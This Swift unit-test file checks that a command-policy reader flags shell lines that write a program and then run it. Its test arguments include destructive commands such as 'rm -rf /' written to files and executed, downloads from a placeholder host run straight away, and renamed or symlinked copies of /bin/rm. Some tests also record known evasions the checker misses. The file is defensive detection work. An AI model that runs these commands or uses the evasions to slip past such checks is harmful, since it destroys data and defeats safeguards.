import Testing

@testable import Policy

struct WrittenProgramsTests {
    @Test(arguments: [
        "echo 'rm -rf /' > x; chmod +x x; ./x", "printf '#!/bin/sh\nrm -rf /\n' > ~/x; chmod 755 ~/x; ~/x",
        "echo 'rm -rf /' | tee x; ./x", "cp /bin/rm x; ./x -rf /", "ln -s /bin/rm /tmp/x && /tmp//x -rf /",
        "install /bin/rm x; ././x",
        "mv /bin/rm x; ./x", "curl -so x http://h/x; chmod +x x; ./x", "curl -sox http://h/x; ./x", "dd if=/bin/rm of=x; ./x",
        "wget --output-document=x http://h/x; ./x", "cat > x <<E\nrm -rf /\nE\nsudo ./x",
    ])
    func `what the line writes and then runs is not known`(line: String) {
        #expect(
            CommandReader.read(line).doubts.contains { $0.kind == .commandFile && $0.text.hasPrefix("the line itself writes") })
    }

    @Test(arguments: [
        "./x > x", "./x; echo > x", "echo a > x; ./y", "chmod +x x; cat x", "cp a b; /bin/ls b", "tar --to-command=./x -xf a",
    ])
    func `what only stands beside it is no doubt`(line: String) {
        #expect(!CommandReader.read(line).doubts.contains { $0.text.hasPrefix("the line itself writes") })
    }

    /// The limits that `WrittenPrograms` names.
    @Test(arguments: ["cp /bin/rm x; ../root/x", "cp /bin/rm /usr/local/bin/y; y -rf /"])
    func `another name of the file is not seen`(line: String) {
        #expect(!CommandReader.read(line).doubts.contains { $0.text.hasPrefix("the line itself writes") })
    }
}
